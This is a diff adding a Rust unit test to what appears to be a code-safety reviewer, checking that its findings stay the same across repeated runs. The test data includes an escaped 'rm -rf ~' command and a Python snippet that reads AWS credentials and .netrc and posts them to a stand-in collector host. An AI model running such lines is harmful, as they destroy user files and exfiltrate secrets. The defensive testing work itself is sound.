@@ -531,3 +531,24 @@ fn ansi_c_strings_are_decoded() {
     check(Sh, "$'\\162\\155' -rf ~\n", Dangerous, "destructive");
     check(Sh, "echo $'a\\tb'\n", Clean, "");
 }
+
+#[test]
+fn a_review_is_the_same_every_time() {
+    // Two keyword arguments carry different secrets: which one the finding names must not
+    // depend on a map's random order.
+    let code = "import os, requests\n\
+                a = open(os.path.expanduser('~/.aws/credentials')).read()\n\
+                b = open(os.path.expanduser('~/.netrc')).read()\n\
+                x = pack(p=a, q=b, r=a, s=b, t=a, u=b)\n\
+                requests.post('https://collector.example.net/x', data=x)\n";
+    let ctx = Context {
+        cwd: "/home/dev/project".into(),
+        home: "/home/dev".into(),
+        tmp_dirs: vec!["/tmp".into()],
+    };
+    let first = format!("{:?}", review_source(code, Py, &ctx, &Config::default()));
+    for _ in 0..40 {
+        let again = format!("{:?}", review_source(code, Py, &ctx, &Config::default()));
+        assert_eq!(again, first);
+    }
+}
